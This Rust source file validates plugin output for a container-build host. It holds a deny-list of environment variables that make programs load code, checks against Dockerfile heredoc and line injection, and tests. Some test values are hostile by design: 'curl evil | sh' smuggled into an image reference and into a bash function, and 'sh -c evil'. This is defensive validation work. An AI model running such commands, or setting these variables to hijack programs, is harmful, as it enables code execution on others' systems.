//! Output rules. Hook results flow into Dockerfiles, shell scripts and
//! process environments, so every returned value is checked before it is
//! handed to the embedder.

use std::collections::BTreeSet;

use crate::types::ActionReport;

/// Environment variables no plugin may set by default, on top of
/// [`DENIED_ENV_VAR_PREFIXES`]: each makes a program load or run code the
/// value chooses, without the program asking for it. They come, family by
/// family, from the documentation of the dynamic loader, the shells and the
/// common language runtimes. Variables that a single tool reads when it runs
/// a helper (`EDITOR`, `PAGER`, `GIT_SSH_COMMAND`, `GIT_CONFIG_*`,
/// `IPYTHONDIR`, ...) are left out: that set has no end, and which ones
/// matter depends on the image, so embedders add them through
/// [`OutputRules::denied_env_vars`].
pub const DEFAULT_DENIED_ENV_VARS: &[&str] = &[
    // Executable search: POSIX.1-2024 XBD 8.3, "Other Environment Variables".
    "PATH",
    // glibc beyond the `LD_*` prefix. ld.so(8), "Secure-execution mode",
    // lists what the loader strips for set-user-ID programs; of those, only
    // GCONV_PATH loads code (iconv modules, iconv(3)). GLIBC_TUNABLES
    // configures the loader itself (glibc manual, "Tunables").
    "GCONV_PATH",
    "GLIBC_TUNABLES",
    // Shells. bash(1), INVOCATION: a non-interactive bash sources $BASH_ENV,
    // an interactive sh (dash, ksh, bash as sh) $ENV. bash(1), "Shell Variables"
    // and PROMPTING: PROMPT_COMMAND runs before each prompt, and PS0, PS1,
    // PS2 and PS4 (the `set -x` prefix) go through command substitution;
    // SHELLOPTS and BASHOPTS switch options on at start-up; `enable -f`
    // loads builtins from BASH_LOADABLES_PATH. POSIX `cd`: CDPATH moves a
    // script's `cd`, and with it every relative command after it; POSIX sh
    // lets a shell take IFS, which splits every unquoted expansion, from the
    // environment. zsh(1), STARTUP/SHUTDOWN FILES: every zsh sources
    // $ZDOTDIR/.zshenv. ksh(1): a command not found is looked up in FPATH.
    // Exported bash functions (`BASH_FUNC_name%%`) fail the name rule.
    "BASH_ENV",
    "ENV",
    "PROMPT_COMMAND",
    "PS0",
    "PS1",
    "PS2",
    "PS4",
    "SHELLOPTS",
    "BASHOPTS",
    "BASH_LOADABLES_PATH",
    "CDPATH",
    "IFS",
    "ZDOTDIR",
    "FPATH",
    // Python, "Command line and environment", "Environment variables": the
    // module search path (PYTHONPATH, PYTHONHOME, PYTHONPLATLIBDIR), code run
    // at the prompt or after the script (PYTHONSTARTUP, PYTHONINSPECT), the
    // user site directory whose `.pth` files run at start-up
    // (PYTHONUSERBASE), modules imported by name (PYTHONBREAKPOINT, the
    // categories in PYTHONWARNINGS) and where bytecode is read from
    // (PYTHONPYCACHEPREFIX).
    "PYTHONPATH",
    "PYTHONHOME",
    "PYTHONPLATLIBDIR",
    "PYTHONSTARTUP",
    "PYTHONINSPECT",
    "PYTHONUSERBASE",
    "PYTHONBREAKPOINT",
    "PYTHONWARNINGS",
    "PYTHONPYCACHEPREFIX",
    // Node.js, "Command-line API", "Environment variables": NODE_OPTIONS
    // takes `--require` and `--import`; NODE_PATH extends module search;
    // NODE_REPL_EXTERNAL_MODULE replaces the REPL with a module.
    "NODE_OPTIONS",
    "NODE_PATH",
    "NODE_REPL_EXTERNAL_MODULE",
    // Perl, perlrun(1), ENVIRONMENT: PERL5OPT takes `-M` and `-d`, PERL5LIB
    // and PERLLIB (read when PERL5LIB is unset) extend @INC, PERL5DB is the
    // debugger's code.
    "PERL5OPT",
    "PERL5LIB",
    "PERLLIB",
    "PERL5DB",
    // Ruby, ruby(1), ENVIRONMENT: RUBYOPT takes `-r`, RUBYLIB extends the
    // load path, `-S` looks scripts up in RUBYPATH.
    "RUBYOPT",
    "RUBYLIB",
    "RUBYPATH",
    // JVM. The JVM TI specification: every VM reads JAVA_TOOL_OPTIONS
    // (`-javaagent`). java(1): the launcher prepends JDK_JAVA_OPTIONS and
    // uses CLASSPATH when no `-cp` is given; HotSpot reads _JAVA_OPTIONS.
    // OpenJ9, "Specifying command-line options": OPENJ9_JAVA_OPTIONS and,
    // before it, IBM_JAVA_OPTIONS.
    "JAVA_TOOL_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "_JAVA_OPTIONS",
    "CLASSPATH",
    "OPENJ9_JAVA_OPTIONS",
    "IBM_JAVA_OPTIONS",
    // .NET. dotnet/runtime docs/design/features/host-startup-hook.md: the
    // runtime calls the assemblies in DOTNET_STARTUP_HOOKS before Main;
    // additional-deps.md: the host resolves assemblies from the manifests in
    // DOTNET_ADDITIONAL_DEPS. "Runtime configuration options for debugging
    // and profiling": the ENABLE_PROFILING switches load a native profiler
    // (its GUID and path are prefix rules).
    "DOTNET_STARTUP_HOOKS",
    "DOTNET_ADDITIONAL_DEPS",
    "CORECLR_ENABLE_PROFILING",
    "DOTNET_ENABLE_PROFILING",
    // PHP manual, "The configuration file": PHPRC and PHP_INI_SCAN_DIR pick
    // the ini files, whose `auto_prepend_file` runs before every script.
    "PHPRC",
    "PHP_INI_SCAN_DIR",
    // R, `?Startup`: the environ and profile files R reads (the profiles are
    // R code); `?.libPaths`: the package library search path.
    "R_ENVIRON",
    "R_ENVIRON_USER",
    "R_PROFILE",
    "R_PROFILE_USER",
    "R_LIBS",
    "R_LIBS_USER",
    "R_LIBS_SITE",
    // Julia manual, "Environment Variables": the depot holds
    // `config/startup.jl`, run at every start; the load path finds packages.
    "JULIA_DEPOT_PATH",
    "JULIA_LOAD_PATH",
];

/// Name prefixes no plugin may use, for families whose documentation names
/// variables by pattern.
pub const DENIED_ENV_VAR_PREFIXES: &[&str] = &[
    // ld.so(8), ENVIRONMENT: every variable the glibc loader reads starts
    // with `LD_`, and musl's loader reads LD_PRELOAD and LD_LIBRARY_PATH.
    "LD_",
    // dyld(1), ENVIRONMENT: likewise `DYLD_` on macOS.
    "DYLD_",
    // Lua 5.4 reference manual, §7 (LUA_INIT runs before the script) and §6.3
    // (package.path, package.cpath): each is read as `NAME_5_4` before
    // `NAME`, a suffix per release.
    "LUA_INIT",
    "LUA_PATH",
    "LUA_CPATH",
    // .NET "debugging and profiling": the profiler's GUID and path, one
    // suffix per architecture, under both prefixes.
    "CORECLR_PROFILER",
    "DOTNET_PROFILER",
];

/// Dockerfile instructions a plugin may emit. `FROM` is the host's: a plugin
/// starting a new stage would silently discard everything before it.
pub const ALLOWED_DOCKERFILE_INSTRUCTIONS: &[&str] = &[
    "ADD",
    "ARG",
    "CMD",
    "COPY",
    "ENTRYPOINT",
    "ENV",
    "EXPOSE",
    "HEALTHCHECK",
    "LABEL",
    "ONBUILD",
    "RUN",
    "SHELL",
    "STOPSIGNAL",
    "USER",
    "VOLUME",
    "WORKDIR",
];

/// Rules applied to hook results. Embedders may tighten or extend them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OutputRules {
    /// Environment variable names plugins may not set (exact, case-sensitive).
    pub denied_env_vars: BTreeSet<String>,
    /// Longest environment variable name.
    pub max_env_name_bytes: usize,
    /// Longest environment variable value.
    pub max_env_value_bytes: usize,
    /// Most environment variables from one plugin.
    pub max_env_vars: usize,
    /// Most Dockerfile instructions from one plugin.
    pub max_dockerfile_lines: usize,
    /// Longest Dockerfile instruction.
    pub max_dockerfile_line_bytes: usize,
    /// Largest bootstrap script.
    pub max_script_bytes: usize,
    /// Longest action report summary.
    pub max_summary_bytes: usize,
}

impl Default for OutputRules {
    fn default() -> Self {
        OutputRules {
            denied_env_vars: DEFAULT_DENIED_ENV_VARS.iter().map(|s| s.to_string()).collect(),
            max_env_name_bytes: 256,
            max_env_value_bytes: 32 * 1024,
            max_env_vars: 4_096,
            max_dockerfile_lines: 10_000,
            max_dockerfile_line_bytes: 64 * 1024,
            max_script_bytes: 2 * 1024 * 1024,
            max_summary_bytes: 4 * 1024,
        }
    }
}

fn show(text: &str) -> String {
    crate::sanitize::for_terminal(text, 80)
}

impl OutputRules {
    /// Checks Dockerfile instructions from one plugin.
    pub fn check_dockerfile_lines(&self, lines: &[String]) -> Result<(), String> {
        if lines.len() > self.max_dockerfile_lines {
            return Err(format!("{} Dockerfile lines; the limit is {}", lines.len(), self.max_dockerfile_lines));
        }
        for (index, line) in lines.iter().enumerate() {
            self.check_dockerfile_line(line)
                .map_err(|problem| format!("Dockerfile line {} `{}` {problem}", index + 1, show(line)))?;
        }
        Ok(())
    }

    fn check_dockerfile_line(&self, line: &str) -> Result<(), String> {
        if line.len() > self.max_dockerfile_line_bytes {
            return Err(format!("is {} bytes; the limit is {}", line.len(), self.max_dockerfile_line_bytes));
        }
        if line.chars().any(|c| c.is_control() && c != '\t') {
            return Err("contains a line break or control character; return one instruction per list item".into());
        }
        let trimmed = line.trim();
        if trimmed.is_empty() {
            return Err("is empty".into());
        }
        if let Some(comment) = trimmed.strip_prefix('#') {
            let directive = comment.trim_start().to_ascii_lowercase();
            if ["syntax", "escape", "check"]
                .iter()
                .any(|d| directive.strip_prefix(d).is_some_and(|rest| rest.trim_start().starts_with('=')))
            {
                return Err("is a parser directive; only the host sets those".into());
            }
            return Ok(());
        }
        if trimmed.ends_with('\\') || trimmed.ends_with('`') {
            return Err("ends with a line continuation, which would swallow the next instruction".into());
        }
        if has_heredoc(trimmed) {
            return Err(
                "contains `<<`, which BuildKit may read as a word that opens a heredoc and swallows the next lines"
                    .into(),
            );
        }
        let keyword = trimmed.split_whitespace().next().unwrap_or_default().to_ascii_uppercase();
        if keyword == "FROM" {
            return Err("starts a new build stage; the host writes FROM, plugins add instructions".into());
        }
        if !ALLOWED_DOCKERFILE_INSTRUCTIONS.contains(&keyword.as_str()) {
            return Err(format!(
                "does not start with a Dockerfile instruction (one of {})",
                ALLOWED_DOCKERFILE_INSTRUCTIONS.join(", ")
            ));
        }
        Ok(())
    }

    /// Checks environment variables from one plugin.
    pub fn check_env_vars(&self, vars: &[(String, String)]) -> Result<(), String> {
        if vars.len() > self.max_env_vars {
            return Err(format!("{} environment variables; the limit is {}", vars.len(), self.max_env_vars));
        }
        for (name, value) in vars {
            self.check_env_name(name)
                .map_err(|problem| format!("environment variable name `{}` {problem}", show(name)))?;
            if value.len() > self.max_env_value_bytes {
                return Err(format!(
                    "environment variable `{name}` has a {}-byte value; the limit is {}",
                    value.len(),
                    self.max_env_value_bytes
                ));
            }
            if value.contains(['\0', '\n', '\r']) {
                return Err(format!("environment variable `{name}` has a NUL or line break in its value"));
            }
        }
        // Sorting a few borrowed names is cheaper than hashing them; this
        // runs on every call, so it shows in the warm-call profile.
        let mut names: Vec<&str> = vars.iter().map(|(name, _)| name.as_str()).collect();
        names.sort_unstable();
        if let Some(pair) = names.windows(2).find(|pair| pair[0] == pair[1]) {
            return Err(format!("environment variable `{}` is set twice; return each name once", pair[0]));
        }
        Ok(())
    }

    fn check_env_name(&self, name: &str) -> Result<(), String> {
        if name.is_empty() || name.len() > self.max_env_name_bytes {
            return Err(format!("must be 1 to {} bytes long", self.max_env_name_bytes));
        }
        let mut chars = name.chars();
        let first_ok = chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
        if !first_ok || !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
            return Err("must match ^[A-Za-z_][A-Za-z0-9_]*$".into());
        }
        if self.denied_env_vars.contains(name) || DENIED_ENV_VAR_PREFIXES.iter().any(|p| name.starts_with(p)) {
            return Err("is on the deny-list of variables that change how programs load code".into());
        }
        Ok(())
    }

    /// Checks a bootstrap script.
    pub fn check_script(&self, script: &str) -> Result<(), String> {
        if script.len() > self.max_script_bytes {
            return Err(format!("bootstrap script is {} bytes; the limit is {}", script.len(), self.max_script_bytes));
        }
        if script.contains('\0') {
            return Err("bootstrap script contains a NUL byte".into());
        }
        Ok(())
    }

    /// Checks a deploy/destroy report.
    pub fn check_report(&self, report: &ActionReport) -> Result<(), String> {
        if report.summary.len() > self.max_summary_bytes {
            return Err(format!(
                "report summary is {} bytes; the limit is {}",
                report.summary.len(),
                self.max_summary_bytes
            ));
        }
        let texts = std::iter::once(&report.summary).chain(report.details.iter().flat_map(|(k, v)| [k, v]));
        for text in texts {
            if text.contains('\0') {
                return Err("report contains a NUL byte".into());
            }
        }
        Ok(())
    }
}

/// Whether BuildKit could read a heredoc opener in the line.
///
/// The grammar is BuildKit's `frontend/dockerfile/parser/parser.go`: `Parse`
/// looks for heredocs only in an ADD, COPY or RUN line (ONBUILD included,
/// any case, shell form) that contains `<<`. `heredocsFromLine` then splits
/// the line into words with `shell/lex.go` (quotes and escapes kept, unset
/// variables left as written, `<<` and the blanks after it kept in one word)
/// and every word matching `reHeredoc`, `^(\d*)<<(-?)\s*([^<]*)$`, whose
/// rest lexes to one word opens a heredoc. The lexer's quirks widen that
/// regex: Unicode spaces split words, and `${X:- <\<EOF}` drops the escape,
/// so it yields the word `<<EOF}` with no `<<` in the source. A narrower
/// check would have to reproduce the lexer byte for byte, and a miss lets a
/// plugin swallow the lines after it, so this refuses every line that passes
/// BuildKit's first test, in every instruction, as the allowed set may grow.
/// Comments never reach it: the parser drops them before looking.
fn has_heredoc(line: &str) -> bool {
    line.contains("<<")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dockerfile_rules() {
        let rules = OutputRules::default();
        let check = |line: &str| rules.check_dockerfile_lines(&[line.to_string()]);
        assert!(check("RUN echo hi").is_ok());
        assert!(check("# a comment").is_ok());
        assert!(check("RUN a\nRUN b").unwrap_err().contains("line break"));
        assert!(check("RUN a \\").unwrap_err().contains("continuation"));
        assert!(check("RUN <<EOF").unwrap_err().contains("heredoc"));
        assert!(check("# syntax=docker/dockerfile:1").unwrap_err().contains("directive"));
        assert!(check("#escape=`").unwrap_err().contains("directive"));
        assert!(check("FROM alpine").unwrap_err().contains("FROM"));
        assert!(check("echo hi").unwrap_err().contains("instruction"));
    }

    #[test]
    fn every_heredoc_opener_buildkit_accepts_is_refused() {
        let rules = OutputRules::default();
        let openers = [
            "RUN <<EOF",
            "RUN <<-EOF",
            "RUN <<\"EOF\"",
            "RUN <<'EOF'",
            "RUN <<-'EOF'",
            "RUN <<E\"O\"F",
            "RUN <<\\EOF",
            // The lexer keeps blanks after `<<` in the word, and the regex allows them.
            "RUN << EOF",
            "RUN <<\tEOF",
            // A file descriptor before `<<`, and words the regex allows that aren't names.
            "RUN 3<<EOF",
            "RUN <<123",
            "RUN <<$X",
            "RUN <<EOF.txt",
            "RUN <<}",
            "RUN cat <<EOF >out",
            "RUN cat <<EOF | sh",
            // Attached to other text: not a heredoc to BuildKit, but one to the shell it hands the line to.
            "RUN cat<<EOF",
            "RUN echo x;cat<<EOF",
            "COPY <<A <<B /dst/",
            "RUN <<A cat - <<B",
            "run <<EOF",
            "copy <<EOF /etc/motd",
            "add <<EOF /etc/motd",
            "onbuild run <<EOF",
            "ONBUILD COPY <<EOF /x",
            // Shell form, whatever it looks like: a line that fails to parse as JSON falls back to it.
            "RUN [\"sh\", \"-c\", \"cat <<EOF\"",
            "RUN [\"sh\", \"-c\", \"cat <<EOF\"]",
            // BuildKit splits words on Unicode spaces.
            "RUN echo\u{a0}<<EOF",
            "RUN echo\u{2003}<<EOF",
            // `${X:-...}` drops the escape, so the second word is `<<EOF}`; `<<` elsewhere on the line
            // is what makes BuildKit look.
            "RUN echo \"<<\" ${X:- <\\<EOF}",
            "ENV A=<<EOF",
        ];
        for opener in openers {
            let error = rules.check_dockerfile_lines(&[opener.to_string()]).expect_err(opener);
            assert!(error.contains("heredoc"), "{opener}: {error}");
        }
        for fine in ["RUN cat < input.txt", "RUN echo a '<' b", "RUN test 1 -lt 2", "# see <<EOF in the docs"] {
            assert!(rules.check_dockerfile_lines(&[fine.to_string()]).is_ok(), "{fine}");
        }
    }

    #[test]
    fn env_rules() {
        let rules = OutputRules::default();
        let check = |name: &str, value: &str| rules.check_env_vars(&[(name.to_string(), value.to_string())]);
        assert!(check("API_URL", "http://x").is_ok());
        assert!(check("LD_PRELOAD", "/x.so").unwrap_err().contains("deny-list"));
        assert!(check("LD_ANYTHING", "x").unwrap_err().contains("deny-list"));
        assert!(check("1ABC", "x").unwrap_err().contains("must match"));
        assert!(check("A-B", "x").unwrap_err().contains("must match"));
        assert!(check("A", "x\ny").unwrap_err().contains("line break"));
        let twice = [("A".to_string(), "1".to_string()), ("A".to_string(), "2".to_string())];
        assert!(rules.check_env_vars(&twice).unwrap_err().contains("twice"));
    }

    #[test]
    fn every_family_on_the_env_deny_list_is_denied() {
        let rules = OutputRules::default();
        let check = |name: &str| rules.check_env_vars(&[(name.to_string(), "x".to_string())]);
        let families = [
            ("executable search", "PATH"),
            ("glibc and musl loader", "LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT LD_BIND_NOW LD_DEBUG_OUTPUT"),
            ("glibc, beyond the loader", "GCONV_PATH GLIBC_TUNABLES"),
            ("macOS dyld", "DYLD_INSERT_LIBRARIES DYLD_FRAMEWORK_PATH"),
            ("bash and sh", "BASH_ENV ENV PROMPT_COMMAND PS0 PS1 PS2 PS4 SHELLOPTS BASHOPTS BASH_LOADABLES_PATH"),
            ("POSIX sh, zsh, ksh", "CDPATH IFS ZDOTDIR FPATH"),
            ("Python", "PYTHONPATH PYTHONHOME PYTHONPLATLIBDIR PYTHONSTARTUP PYTHONINSPECT PYTHONUSERBASE"),
            ("Python imports", "PYTHONBREAKPOINT PYTHONWARNINGS PYTHONPYCACHEPREFIX"),
            ("Node.js", "NODE_OPTIONS NODE_PATH NODE_REPL_EXTERNAL_MODULE"),
            ("Perl", "PERL5OPT PERL5LIB PERLLIB PERL5DB"),
            ("Ruby", "RUBYOPT RUBYLIB RUBYPATH"),
            ("JVM", "JAVA_TOOL_OPTIONS JDK_JAVA_OPTIONS _JAVA_OPTIONS CLASSPATH OPENJ9_JAVA_OPTIONS IBM_JAVA_OPTIONS"),
            (".NET", "DOTNET_STARTUP_HOOKS DOTNET_ADDITIONAL_DEPS CORECLR_ENABLE_PROFILING DOTNET_ENABLE_PROFILING"),
            (".NET profiler", "CORECLR_PROFILER CORECLR_PROFILER_PATH_64 DOTNET_PROFILER_PATH"),
            ("PHP", "PHPRC PHP_INI_SCAN_DIR"),
            ("R", "R_ENVIRON R_ENVIRON_USER R_PROFILE R_PROFILE_USER R_LIBS R_LIBS_USER R_LIBS_SITE"),
            ("Julia", "JULIA_DEPOT_PATH JULIA_LOAD_PATH"),
            ("Lua", "LUA_INIT LUA_INIT_5_4 LUA_PATH LUA_PATH_5_3 LUA_CPATH LUA_CPATH_5_4"),
        ];
        for (family, names) in families {
            for name in names.split_whitespace() {
                let error = check(name).expect_err(name);
                assert!(error.contains("deny-list"), "{family}: {name}: {error}");
            }
        }
        // An exported bash function's name ends in `%%`, which the name rule refuses.
        let function = [("BASH_FUNC_ls%%".to_string(), "() { curl evil | sh; }".to_string())];
        assert!(rules.check_env_vars(&function).unwrap_err().contains("must match"));
        for name in "API_URL JAVA_HOME LDAP_URL PYTHONUNBUFFERED NODE_ENV LUA_VERSION PS3 HOME".split(' ') {
            assert!(check(name).is_ok(), "{name}");
        }
    }

    #[test]
    fn embedders_extend_the_env_deny_list() {
        let mut rules = OutputRules::default();
        rules.denied_env_vars.insert("GIT_SSH_COMMAND".to_string());
        let vars = [("GIT_SSH_COMMAND".to_string(), "sh -c evil".to_string())];
        assert!(rules.check_env_vars(&vars).unwrap_err().contains("deny-list"));
        assert!(OutputRules::default().check_env_vars(&vars).is_ok());
    }
}

/// Longest image name (registry and path, without tag and digest) that
/// distribution/reference accepts.
const MAX_IMAGE_NAME_BYTES: usize = 255;

/// Checks a base image against the image-reference grammar of
/// distribution/reference, `[REGISTRY[:PORT]/]PATH[:TAG][@DIGEST]` (which
/// `scratch` matches). The host writes it after `FROM` on the first line of
/// every Dockerfile it renders, so anything outside that grammar, a line
/// break above all, could add instructions no plugin was allowed to add.
pub fn check_image_reference(reference: &str) -> Result<(), String> {
    match image_reference_problem(reference) {
        None => Ok(()),
        Some(problem) => Err(format!(
            "`{}` is not an image reference: {problem}; write [REGISTRY[:PORT]/]NAME[:TAG][@DIGEST], \
             e.g. `python:3.11`, `registry.example.com:5000/team/app:1.2` or `app@sha256:<64 hex digits>`",
            crate::sanitize::for_terminal(reference, 80)
        )),
    }
}

fn image_reference_problem(reference: &str) -> Option<String> {
    if reference.is_empty() {
        return Some("it is empty".to_string());
    }
    if let Some(bad) = reference.chars().find(|c| !c.is_ascii_graphic()) {
        return Some(format!(
            "it contains {bad:?}; only ASCII letters, digits and `.`, `_`, `-`, `/`, `:`, `@` are allowed"
        ));
    }
    let (rest, digest) = match reference.split_once('@') {
        Some((rest, digest)) => (rest, Some(digest)),
        None => (reference, None),
    };
    if digest.is_some_and(|digest| !is_digest(digest)) {
        return Some("the digest after `@` must be ALGORITHM:HEX with at least 32 hex digits".to_string());
    }
    // A colon followed by a `/` belongs to a registry port, not a tag.
    let (name, tag) = match rest.rfind(':') {
        Some(colon) if !rest[colon..].contains('/') => (&rest[..colon], Some(&rest[colon + 1..])),
        _ => (rest, None),
    };
    if tag.is_some_and(|tag| !is_tag(tag)) {
        return Some(
            "the tag after `:` must be 1-128 letters, digits, `_`, `.` and `-`, not starting with `.` or `-`"
                .to_string(),
        );
    }
    if name.len() > MAX_IMAGE_NAME_BYTES {
        return Some(format!("the name is {} bytes long; the limit is {MAX_IMAGE_NAME_BYTES}", name.len()));
    }
    let mut components: Vec<&str> = name.split('/').collect();
    if components.len() > 1 && is_registry(components[0]) {
        components.remove(0);
    }
    components.into_iter().find(|component| !is_path_component(component)).map(|component| {
        format!(
            "the name component `{component}` must be lowercase letters and digits, joined by single `.`, `_` or `__` \
             or by dashes (a registry needs a `.` or `:PORT` or a bracketed IPv6 address)"
        )
    })
}

/// `[a-z0-9]+` runs joined by `.`, `_`, `__` or one or more `-`.
fn is_path_component(component: &str) -> bool {
    let bytes = component.as_bytes();
    let alphanumeric = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    let mut at = 0;
    loop {
        let run = at;
        while at < bytes.len() && alphanumeric(bytes[at]) {
            at += 1;
        }
        if at == run {
            return false;
        }
        if at == bytes.len() {
            return true;
        }
        let separator = at;
        while at < bytes.len() && !alphanumeric(bytes[at]) {
            at += 1;
        }
        let separator = &component[separator..at];
        if !matches!(separator, "." | "_" | "__") && !separator.bytes().all(|b| b == b'-') {
            return false;
        }
    }
}

/// A host name, IPv4 address or bracketed IPv6 address, with an optional `:PORT`.
fn is_registry(domain: &str) -> bool {
    let (host_ok, after_host) = match domain.strip_prefix('[') {
        Some(bracketed) => match bracketed.split_once(']') {
            Some((address, after)) => {
                (!address.is_empty() && address.bytes().all(|b| b.is_ascii_hexdigit() || b == b':'), after)
            }
            None => return false,
        },
        None => {
            let end = domain.find(':').unwrap_or(domain.len());
            let label_ok = |label: &str| {
                !label.is_empty()
                    && !label.starts_with('-')
                    && !label.ends_with('-')
                    && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
            };
            (domain[..end].split('.').all(label_ok), &domain[end..])
        }
    };
    let port_ok = |port: &str| !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit());
    host_ok && (after_host.is_empty() || after_host.strip_prefix(':').is_some_and(port_ok))
}

fn is_tag(tag: &str) -> bool {
    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
    (1..=128).contains(&tag.len())
        && tag.bytes().next().is_some_and(word)
        && tag.bytes().all(|b| word(b) || b == b'.' || b == b'-')
}

fn is_digest(digest: &str) -> bool {
    let Some((algorithm, hex)) = digest.split_once(':') else {
        return false;
    };
    hex.len() >= 32
        && hex.bytes().all(|b| b.is_ascii_hexdigit())
        && algorithm.split(['-', '_', '+', '.']).all(|part| {
            part.starts_with(|c: char| c.is_ascii_alphabetic()) && part.bytes().all(|b| b.is_ascii_alphanumeric())
        })
}

#[cfg(test)]
mod image_reference_tests {
    use super::check_image_reference;

    #[test]
    fn image_references_follow_the_distribution_grammar() {
        let digest = format!("sha256:{}", "a".repeat(64));
        for good in [
            "scratch".to_string(),
            "python".into(),
            "python:3.11".into(),
            "jupyter/minimal-notebook:2026-11".into(),
            "library/ubuntu:22.04".into(),
            "registry.example.com:5000/team/app:1.2".into(),
            "localhost:5000/app".into(),
            "Registry.Example.com/app".into(),
            "[::1]:5000/app:latest".into(),
            "192.168.0.1/app".into(),
            "a__b/c_d/e.f/g---h:TAG_1.x-y".into(),
            format!("app@{digest}"),
            format!("app:1.0@{digest}"),
            format!("app:{}", "t".repeat(128)),
        ] {
            assert_eq!(check_image_reference(&good), Ok(()), "{good}");
        }
        for (bad, expected) in [
            ("", "empty"),
            ("python:3.11\nRUN curl evil | sh", "'\\n'"),
            ("python 3", "' '"),
            ("pythön", "'ö'"),
            ("Python", "`Python`"),
            ("a/B", "`B`"),
            ("a..b", "`a..b`"),
            ("a___b", "`a___b`"),
            ("-a", "`-a`"),
            ("a-", "`a-`"),
            ("a//b", "``"),
            ("app/", "``"),
            ("a_b:5000/app", "`a_b:5000`"),
            ("app:", "tag"),
            ("app:.x", "tag"),
            ("app:-x", "tag"),
            ("app:a:b", "`app:a`"),
            ("app@sha256:abc", "digest"),
            ("app@sha256", "digest"),
            ("app@1sha:0123456789abcdef0123456789abcdef", "digest"),
            ("$BASE", "`$BASE`"),
        ] {
            let error = check_image_reference(bad).expect_err(bad);
            assert!(error.contains(expected) && error.contains("e.g. `python:3.11`"), "{bad:?}: {error}");
            assert!(!error.contains('\n'), "{error}");
        }
        assert!(check_image_reference(&format!("app:{}", "t".repeat(129))).is_err());
        assert!(check_image_reference(&"a".repeat(256)).unwrap_err().contains("limit is 255"));
    }
}

/// Why a hook's output breaks the rules (temporary alias until typed).
pub type OutputProblem = String;
